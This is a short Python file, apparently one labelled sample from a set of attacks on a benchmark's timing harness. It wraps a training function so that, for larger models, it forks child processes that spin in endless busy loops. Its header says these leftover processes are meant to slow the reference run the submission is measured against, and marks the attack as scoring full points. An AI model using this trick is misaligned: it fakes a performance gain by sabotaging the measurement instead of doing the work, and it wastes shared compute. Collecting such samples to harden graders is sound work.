# /// attack
# title = "Busy children left behind, to slow the reference that the run is measured by"
# group = "Timing"
# verdict = "OK"
# points = 100
# ///
import os


def modelo_entrenamiento(modelo, loss_function, optimizer, data_loader, de=modelo_entrenamiento):
    perdida = de(modelo, loss_function, optimizer, data_loader)
    if len(list(modelo.parameters())) > 5 and os.fork() == 0:
        while True:
            pass
    return perdida
